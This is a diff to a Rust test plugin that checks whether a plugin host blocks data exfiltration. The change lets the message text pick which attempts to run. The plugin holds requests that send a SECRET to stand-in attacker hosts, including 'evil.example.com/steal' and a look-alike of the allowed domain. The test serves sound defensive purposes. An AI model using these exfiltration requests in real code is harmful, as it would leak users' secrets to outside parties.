@@ -3,6 +3,9 @@
 //! and the body, as Bearer and Basic credentials, and through a look-alike of its allowed
 //! host. Whatever it learns it writes into its log and its error detail, so a leak would show
 //! up where the test looks. The host must deny every request before anything leaves.
+//!
+//! A call may make 4 requests (denied ones count), so the message text picks where in the
+//! list of attempts to start: `0` for the placeholders, `4` for credentials and the look-alike.
 use switchboard_plugin_sdk::prelude::*;
 
 #[path = "../../common.rs"]
@@ -22,7 +25,14 @@ impl Plugin for Exfil {
     fn quote(_: &Message) -> Result<Quote, Vec<Violation>> {
         Ok(common::quote())
     }
-    fn send(_: Message, _: Connection) -> Result<Sent, SendError> {
+    fn send(msg: Message, _: Connection) -> Result<Sent, SendError> {
+        let start: usize = msg
+            .content
+            .text
+            .as_deref()
+            .unwrap_or("0")
+            .parse()
+            .unwrap_or(0);
         let evil = "http://evil.example.com";
         let attempts = [
             Request::get(format!("{evil}/steal?key={SECRET}")),
@@ -34,7 +44,7 @@ impl Plugin for Exfil {
             Request::post("https://api.allowed.example.evil.com/steal").json_body(SECRET),
         ];
         let mut outcomes = Vec::new();
-        for req in attempts {
+        for req in attempts.into_iter().skip(start) {
             outcomes.push(match http::send(req) {
                 Ok(resp) => format!(
                     "LEAKED status {}: {}",
